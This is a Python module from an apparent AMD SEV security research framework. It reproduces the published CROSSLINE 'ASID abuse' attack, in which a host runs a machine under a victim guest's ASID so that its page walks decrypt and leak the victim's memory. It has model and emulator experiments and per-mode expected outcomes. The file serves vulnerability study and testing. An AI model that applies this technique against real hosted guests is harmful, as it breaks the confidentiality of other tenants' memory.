"""ASID abuse: the host runs its own machine under the victim's ASID, and so with the victim's key.

In CROSSLINE this lasts only until the page walk of the attacker's machine faults: the walk decrypts the victim's memory
as page table entries, and the fault address reveals their content.
"""

from sevkit.attacks.experiment import Aim, Attack, Expectation, Notebook, Observation, Outcome, Source
from sevkit.attacks.labs import model_lab
from sevkit.attacks.labs.account import open_account
from sevkit.attacks.labs.guest_lab import GuestLab
from sevkit.attacks.labs.host import RefusedError
from sevkit.errors import InconclusiveError
from sevkit.vocabulary import Level, Mode

_NO_KEY, _VICTIM = 0, 1  # ASIDs
_ADDRESS = 0x0007_FFFF_FFFF_F000  # of an entry of a page table, without the C-bit (51)
_ENTRIES = 8  # one record of the account


def model(note: Notebook) -> Observation:
    """Start a second machine with the victim's ASID whose page table is the victim's secret page."""
    note.setup("The victim keeps something that looks like a page table entry in private memory.")
    platform = model_lab.machine(note)
    victim = model_lab.guest(note, platform)
    word = (0x5EC2E7 << 12 | 1).to_bytes(8, "little")
    victim.vm.write(model_lab.DATA, word)
    note.predict("Memory is decrypted by ASID: another machine with that ASID reads the victim's plaintext.")

    thief = platform.attach(note.mode, victim.vm.asid)
    thief.npt.map(0, victim.spa(model_lab.DATA))
    note.host(
        "The host makes a machine with the same ASID, whose CR3 points at the victim's page.", f"asid = {thief.asid}"
    )
    entry, check = model_lab.attempt(lambda: thief.read(0, 8))
    note.host("Its page walk reads the first entry; the fault on the next level reports it.", entry or check)
    if entry == word:
        return note.works("asid-owned-by-host", "The walk decrypted 8 bytes of the victim's memory for the host.")
    return note.stopped(check or "unknown", "The page belongs to another guest address: the walk is refused.")


def guest(lab: GuestLab, note: Notebook) -> Observation:
    """Let the processor walk a real guest's page as a page table of a machine with the same ASID."""
    account, page = open_account(
        lab, note, "Under the victim's ASID the walk decrypts; the faults show the address bits of present entries."
    )
    text = account.record(100).encode().ljust(_ENTRIES * 8)
    words = [int.from_bytes(text[at : at + 8], "little") for at in range(0, len(text), 8)]
    true = [word & _ADDRESS if word & 1 else None for word in words]
    note.host("The host makes a machine with the victim's ASID, whose CR3 points at the page.")
    try:
        seen = _walk(lab, page, _VICTIM)
    except RefusedError as refusal:
        note.host("The walk is refused.", str(refusal))
        return note.stopped(refusal.check, "The page belongs to another guest address: the walk is refused.")
    note.host("The faults of the walk report these addresses:", " ".join(f"{at:x}" if at else "-" for at in seen))
    if seen != true or not any(true):
        raise InconclusiveError("the walk did not show what the guest has in this page")
    if _walk(lab, page, _NO_KEY) == true:
        raise InconclusiveError("without the ASID the walk shows the same: the page is not encrypted")
    known = sum(entry is not None for entry in seen)
    return note.works("asid-owned-by-host", f"The walks decrypted 39 bits each of {known} words of the guest.")


def _walk(lab: GuestLab, page: int, asid: int) -> list[int | None]:
    gpa = lab.host.gpa(page)
    return [lab.host.walked(gpa + 8 * number, asid=asid) for number in range(_ENTRIES)]


_OLD = "the host chooses the ASID at VMRUN"
ATTACK = Attack(
    name="asid-abuse",
    title="ASID abuse",
    aim=Aim.CONFIDENTIALITY,
    summary="The host runs an attacker's machine with the victim's ASID, whose walks decrypt the victim's memory.",
    preconditions=("the host chooses the ASID in the VMCB",),
    generations="EPYC 7001 to 7002; SEV-ES only in the moment before VMRUN fails",
    sources=(
        Source(
            "Li, Zhang and Lin, CROSSLINE: Breaking Security-by-Crash based Memory Isolation in AMD SEV, CCS 2021",
            "https://arxiv.org/abs/2008.00146",
        ),
    ),
    expected={
        Mode.NOSEV: Expectation(Outcome.WORKS, "nothing is encrypted"),
        Mode.SEV: Expectation(Outcome.WORKS, _OLD),
        Mode.SEV_ES: Expectation(
            Outcome.WORKS, f"{_OLD}; page-table-like blocks only, before the VMSA check ends the run"
        ),
        Mode.SEV_SNP: Expectation(Outcome.STOPPED, "rmp-gpa: the page belongs to another guest address"),
    },
    mitigations=(),
    mitigated=None,
    falls_with="rmp-gpa",
    claim="vm-memory",
    model=model,
    guest=guest,
    guest_levels=frozenset({Level.EMULATOR}),
    guest_modes=(Mode.SEV, Mode.SEV_ES, Mode.SEV_SNP),
    breaks_claim=Source("Li, Zhang and Lin, CROSSLINE, CCS 2021 (SEV and SEV-ES)"),
)
